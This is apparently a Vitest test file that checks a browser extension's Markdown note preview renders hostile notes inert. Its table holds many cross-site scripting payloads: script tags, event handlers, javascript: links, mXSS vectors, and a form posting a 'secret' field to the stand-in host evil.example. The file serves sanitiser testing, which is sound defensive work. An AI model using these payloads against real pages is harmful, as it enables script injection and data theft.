// @vitest-environment happy-dom
import { h, render } from 'preact';
import { act } from 'preact/test-utils';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { NotePreview } from '../../../lib/app/notes/markdown';
import { installStandardNodeIterator } from '../../../harness/dom/standard-dom';

// Before the sanitiser first runs: DOMPurify captures the DOM functions it uses.
installStandardNodeIterator();

/** What a hostile member of the space might write into a note. */
const HOSTILE_NOTES: Record<string, string> = {
  'script element': 'before <script>window.__pwned = true; alert(1)</script> after',
  'image with onerror': '<img src=x onerror="alert(1)">',
  'javascript: link in HTML': '<a href="javascript:alert(1)">click</a>',
  'javascript: link in Markdown': '[x](javascript:alert(1))',
  'javascript: link, mixed case': '[x](JaVaScRiPt:alert(1))',
  'javascript: link, entity-encoded': '<a href="&#106;avascript:alert(1)">click</a>',
  'javascript: link, tab inside scheme': '<a href="java&#x09;script:alert(1)">click</a>',
  'javascript: autolink': '<javascript:alert(1)>',
  'vbscript: link': '[x](vbscript:msgbox(1))',
  'data: link': '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  'relative link into the extension': '[options](/options.html)',
  'extension page link': '[options](chrome-extension://abcdefghijklmnop/options.html)',
  iframe: '<iframe src="https://evil.example/"></iframe>',
  'iframe with srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'svg with onload': '<svg onload="alert(1)"><circle r="4"/></svg>',
  'svg with script': '<svg><script>alert(1)</script></svg>',
  object: '<object data="https://evil.example/x.swf"></object>',
  embed: '<embed src="https://evil.example/x.swf">',
  'remote image in Markdown': '![tracking pixel](https://evil.example/pixel.png)',
  'remote image in HTML': '<img src="https://evil.example/pixel.png" alt="pixel">',
  'srcset image': '<img srcset="https://evil.example/a.png 1x">',
  'picture and source': '<picture><source srcset="https://evil.example/a.png"><img src="b.png"></picture>',
  video: '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video>',
  audio: '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  'style element': '<style>body { background: url(https://evil.example/bg.png) }</style>text',
  'style attribute with url()': '<div style="background-image: url(https://evil.example/bg.png)">text</div>',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'base element': '<base href="https://evil.example/">[x](y)',
  form: '<form action="https://evil.example/steal"><input name="secret"><button>Send</button></form>',
  'image input': '<input type="image" src="https://evil.example/x.png">',
  'table background': '<table background="https://evil.example/x.png"><tr><td>cell</td></tr></table>',
  'event handler on allowed element': '<p onclick="alert(1)" onmouseover="alert(2)">hover</p>',
  'details ontoggle': '<details open ontoggle="alert(1)"><summary>s</summary>x</details>',
  'link with own target and handlers': '<a href="https://ok.example/" target="_self" onclick="alert(1)" ping="https://evil.example/">ok</a>',
  'mXSS through svg style': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'mXSS through math': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'noscript break-out': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'template content': '<template><img src=x onerror=alert(1)></template>',
  'id and a class of the extension': '<p class="attache-highlight" id="app">spoof</p>',
};

const FORBIDDEN_ELEMENTS =
  'script, iframe, frame, object, embed, svg, math, img, picture, source, video, audio, style, link, meta, base, form, input, button, select, textarea, template, noscript';
const FETCHING_ATTRIBUTES = ['src', 'srcset', 'srcdoc', 'data', 'poster', 'background', 'action', 'formaction', 'ping', 'style', 'xlink:href'];

/** The note as the side panel shows it (every note here is short: rendered at once). */
function renderInto(markdown: string): HTMLElement {
  const container = document.createElement('div');
  document.body.append(container);
  act(() => render(h(NotePreview, { markdown }), container));
  return container;
}

function problemsIn(container: HTMLElement): string[] {
  const problems: string[] = [];
  for (const element of container.querySelectorAll(FORBIDDEN_ELEMENTS)) problems.push(`<${element.tagName.toLowerCase()}> present`);
  for (const element of container.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`${name} handler on <${element.tagName.toLowerCase()}>`);
      if (FETCHING_ATTRIBUTES.includes(name)) problems.push(`${name} attribute on <${element.tagName.toLowerCase()}>`);
      if (name === 'id') problems.push('id attribute (could clash with the page)');
    }
  }
  for (const link of container.querySelectorAll('a[href]')) {
    const href = link.getAttribute('href')!;
    if (!/^(https?|mailto):/i.test(href)) problems.push(`link to ${href}`);
    if (link.getAttribute('target') !== '_blank') problems.push(`link to ${href} not in a new tab`);
    const rel = (link.getAttribute('rel') ?? '').split(/\s+/);
    if (!rel.includes('noopener') || !rel.includes('noreferrer')) problems.push(`link to ${href} without rel=noopener noreferrer`);
  }
  return problems;
}

describe('hostile notes render inert', () => {
  let alert: ReturnType<typeof vi.fn>;
  beforeEach(() => {
    alert = vi.fn();
    vi.stubGlobal('alert', alert);
    // Whatever a note manages to schedule lands on these timers, which the test then runs out.
    vi.useFakeTimers();
  });
  afterEach(() => {
    vi.useRealTimers();
    vi.unstubAllGlobals();
    document.body.innerHTML = '';
    delete (window as unknown as Record<string, unknown>).__pwned;
  });

  for (const [name, markdown] of Object.entries(HOSTILE_NOTES)) {
    it(name, async () => {
      const container = renderInto(markdown);
      expect(problemsIn(container)).toEqual([]);
      // Runs anything that managed to get scheduled, however late it was meant to run.
      await vi.runAllTimersAsync();
      // Fire what inline handlers listen for (links are not clicked: that would navigate).
      for (const element of container.querySelectorAll('*')) {
        for (const type of ['load', 'error', 'mouseover', 'focus', 'toggle']) element.dispatchEvent(new Event(type));
      }
      expect(alert).not.toHaveBeenCalled();
      expect((window as unknown as Record<string, unknown>).__pwned).toBeUndefined();
    });
  }

  it('keeps the text around a removed script and drops the script text', () => {
    const container = renderInto(HOSTILE_NOTES['script element']!);
    expect(container.textContent).toContain('before');
    expect(container.textContent).toContain('after');
    expect(container.textContent).not.toContain('__pwned');
  });

  it('keeps a dangerous link as plain text', () => {
    const container = renderInto('see [the report](javascript:alert(1)) here');
    const link = container.querySelector('a');
    expect(link?.hasAttribute('href') ?? false).toBe(false);
    expect(container.textContent).toContain('see the report here');
  });

  it('turns a remote Markdown image into a link to the picture, loading nothing', () => {
    const container = renderInto('![tracking pixel](https://evil.example/pixel.png)');
    expect(container.querySelector('img')).toBeNull();
    const link = container.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://evil.example/pixel.png');
    expect(link.textContent).toBe('[image: tracking pixel]');
  });

  it('shows only the description of an image with a dangerous address', () => {
    const container = renderInto('![chart](javascript:alert(1))');
    expect(container.querySelector('a, img')).toBeNull();
    expect(container.textContent?.trim()).toBe('chart');
  });

  it('escapes an image description that holds markup', () => {
    const container = renderInto('![<b onmouseover=alert(1)>x</b>](https://ok.example/a.png)');
    expect(problemsIn(container)).toEqual([]);
    expect(container.querySelector('b')).toBeNull();
  });

  it("keeps a list's start number and a column's alignment", () => {
    const container = renderInto('3. third\n4. fourth\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |');
    expect(container.querySelector('ol')?.getAttribute('start')).toBe('3');
    expect([...container.querySelectorAll('th')].map((th) => th.getAttribute('align'))).toEqual(['center', 'right']);
    expect(problemsIn(container)).toEqual([]);
  });

  it('keeps no class but its own', () => {
    const container = renderInto('<p class="attache-highlight note-image-link extra">x</p>');
    expect(container.querySelector('p')?.getAttribute('class')).toBe('note-image-link');
  });
});

describe('ordinary notes render as formatted text', () => {
  afterEach(() => {
    document.body.innerHTML = '';
  });

  it('renders headings, emphasis, lists, quotes, code and tables', () => {
    const container = renderInto(
      [
        '## Position of the delegation',
        '',
        'The *draft* was **not** adopted; see `A/68/98`.',
        '',
        '- first point',
        '- second point',
        '',
        '> quoted from the chair',
        '',
        '```',
        'code block',
        '```',
        '',
        '| state | vote |',
        '|---|:-:|',
        '| China | yes |',
      ].join('\n'),
    );
    expect(container.querySelector('h2')?.textContent).toBe('Position of the delegation');
    expect(container.querySelector('em')?.textContent).toBe('draft');
    expect(container.querySelector('strong')?.textContent).toBe('not');
    expect(container.querySelector('code')?.textContent).toBe('A/68/98');
    expect([...container.querySelectorAll('li')].map((li) => li.textContent)).toEqual(['first point', 'second point']);
    expect(container.querySelector('blockquote')?.textContent?.trim()).toBe('quoted from the chair');
    expect(container.querySelector('pre code')?.textContent?.trim()).toBe('code block');
    expect(container.querySelector('td')?.textContent).toBe('China');
  });

  it('opens web and mail links in a new tab without opener or referrer', () => {
    const container = renderInto('[UN](https://www.un.org/) and <mailto:desk@example.org> and https://example.org/x');
    const links = [...container.querySelectorAll('a')];
    expect(links.map((link) => link.getAttribute('href'))).toEqual(['https://www.un.org/', 'mailto:desk@example.org', 'https://example.org/x']);
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('keeps single line breaks', () => {
    const container = renderInto('line one\nline two');
    expect(container.querySelector('br')).not.toBeNull();
  });

  it('shows task list boxes as characters, not form controls', () => {
    const container = renderInto('- [x] done\n- [ ] to do');
    expect(container.querySelector('input')).toBeNull();
    expect([...container.querySelectorAll('li')].map((li) => li.textContent?.trim())).toEqual(['\u2611 done', '\u2610 to do']);
  });

  // Too deep for marked (it used to throw and blank the note) or too slow for it (seconds).
  for (const [name, markdown] of [
    ['2,001 nested block quotes', `${'>'.repeat(2001)} deep`],
    ['100 KB of *a', '*a'.repeat(50_000)],
    ['a 500-column table', [500, 500, 500].map((columns, i) => `|${Array.from({ length: columns }, () => (i === 1 ? '-' : 'c')).join('|')}|`).join('\n')],
    ['a list nested 1,000 deep', Array.from({ length: 1_000 }, (_, i) => `${' '.repeat(i)}- level ${i}`).join('\n')],
  ] as const) {
    it(`shows ${name} as plain text with a notice`, () => {
      const container = renderInto(markdown);
      expect(container.querySelector('.note-plain')?.textContent).toBe(markdown.trimEnd());
      expect(container.querySelector('.note-preview-notice')?.textContent).toMatch(/^Shown as plain text: /);
      expect(problemsIn(container)).toEqual([]);
    });
  }
});
